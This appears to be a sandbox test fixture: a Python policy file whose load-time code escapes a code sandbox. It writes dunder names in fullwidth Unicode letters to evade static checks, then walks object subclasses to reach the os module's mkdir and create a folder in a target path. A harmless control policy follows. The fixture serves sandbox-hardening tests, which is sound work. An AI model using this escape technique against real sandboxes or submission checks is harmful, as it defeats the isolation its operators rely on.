"""Writes a private name in letters that Python takes for the plain ones.

attack: static-evasion
when: load
static: refused
behind: denied, killed
target: {FOLDER}
"""

OBS = "state"
found = ().__ｃlass__.__ｂase__.__ｓubclasses__()
keeper = next(c for c in found if c.__name__ == "_wrap_close")
keeper.__init__.__globals__["mkdir"]("{FOLDER}/made")
raise RuntimeError("BREACHED: made {FOLDER}/made")


def act(obs, info, state, params):
    return 1 if obs[2] + 0.3 * obs[3] > 0 else 0
